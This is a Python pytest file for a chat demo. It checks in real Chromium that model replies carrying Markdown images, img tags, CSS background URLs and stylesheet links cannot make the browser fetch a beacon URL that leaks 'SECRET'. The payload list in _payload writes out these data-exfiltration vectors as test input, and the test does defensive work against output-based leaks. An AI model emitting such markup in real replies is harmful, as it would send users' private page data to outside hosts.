"""A reply that tries to make the reader's browser fetch a URL (to leak the page) fetches nothing, in real Chromium."""
from __future__ import annotations

import http.server
import threading
import urllib.request

import pytest

from tests.browser import CHROMIUM, CHROMIUM_ARGS, DemoProcess, demo_env, require_chromium, send_compare
from tests.fake_servers import Scenario


class _Beacon(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def do_GET(self):  # noqa: N802 (the stdlib's name)
        _Beacon.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a")

    def log_message(self, *args):
        pass


@pytest.fixture
def beacon():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Beacon.hits = []
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _payload(url: str) -> list[str]:
    # each a way a Markdown or HTML renderer would load a URL of the model's choosing
    return [f"Here you go ![chart]({url}/md?leak=SECRET) and ",
            f'<img src="{url}/img?leak=SECRET"> ',
            f'<div style="background:url({url}/css?leak=SECRET)">styled</div> ',
            f'<link rel="stylesheet" href="{url}/link?leak=SECRET"> ',
            f"![ref][r]\n\n[r]: {url}/ref?leak=SECRET\n\n",
            f"and a plain link [docs]({url}/clicked-only) that is not followed by itself."]


def test_nothing_a_model_writes_makes_the_browser_fetch_anything(fake_server, tmp_path, beacon):
    require_chromium()
    from playwright.sync_api import sync_playwright

    for model in ("gpt-4o-mini", "gpt-4o"):
        fake_server.scenarios[model] = Scenario(chunks=_payload(beacon), gap=0.01, input_tokens=20, output_tokens=40)
    demo = DemoProcess(demo_env(fake_server.url), [], tmp_path / "chat.db")
    try:
        # every page says where it may load from
        with urllib.request.urlopen(demo.url, timeout=10) as page:
            policy = page.headers["Content-Security-Policy"]
        assert "img-src 'self' data: blob:" in policy and "connect-src 'self'" in policy
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_page()
            page.goto(demo.url)
            page.wait_for_selector("#prompt textarea", timeout=60_000)
            # Chat
            page.fill("#prompt textarea", "show me the chart")
            page.keyboard.press("Enter")
            page.wait_for_function("document.querySelector('#chatbot').innerText.includes('not followed by itself')",
                                   timeout=30_000)
            shown = page.inner_text("#chatbot")
            assert "chart" in shown and "<img" in shown  # what the model wrote is there, as text
            # Compare, two columns of the same
            page.get_by_role("tab", name="Compare").click()
            send_compare(page, ("gpt-4o-mini", "gpt-4o"), "show me the chart")
            page.wait_for_function("['0','1'].every(i => (document.querySelector('#compare-answer-' + i) || "
                                   "{innerText: ''}).innerText.includes('not followed by itself'))", timeout=30_000)
            page.wait_for_timeout(1500)  # time for any image, stylesheet or background to be requested
            assert page.locator("img[src*='leak']").count() == 0
            browser.close()
    finally:
        demo.stop()
    assert _Beacon.hits == [], f"the browser fetched {_Beacon.hits}"
